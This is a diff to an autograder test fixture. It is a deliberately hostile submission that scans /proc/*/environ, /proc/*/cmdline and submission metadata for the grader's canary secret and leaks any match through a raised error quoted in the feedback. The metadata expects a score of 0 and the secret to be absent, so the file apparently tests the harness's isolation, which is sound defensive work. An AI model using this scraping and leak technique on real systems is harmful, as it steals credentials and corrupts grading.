@@ -1,8 +1,9 @@
 """Reads every environment it can reach (its own, /proc/*/environ and /proc/*/cmdline of
-every process, the submission's metadata) looking for the grader's secrets; it answers
-only if it finds one. make validate gives the runner a canary secret to look for.
+every process, the submission's metadata) looking for the grader's secrets; if it finds
+one, it raises it as the cell's error (quoted in the feedback). make validate gives the
+runner a canary secret to look for.
 
-assignment: pure_callback_doubler
+assignment: ffi_lowering
 score: 0
 absent:
   - canary-3b1f
@@ -19,9 +20,5 @@ for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + ["/aut
 print(loot)
 secrets = [text for text in loot if "canary-3b1f" in text]
 
-if secrets:
-    def host_double(arr):
-        return np.asarray(arr) * 2
-
-    def pure_callback_doubler(x):
-        raise RuntimeError(" ".join(secrets)[:2000])
+if secrets:   # the cell's error is quoted in the feedback
+    raise RuntimeError(" ".join(text[text.index("canary-3b1f") - 20:][:200] for text in secrets))
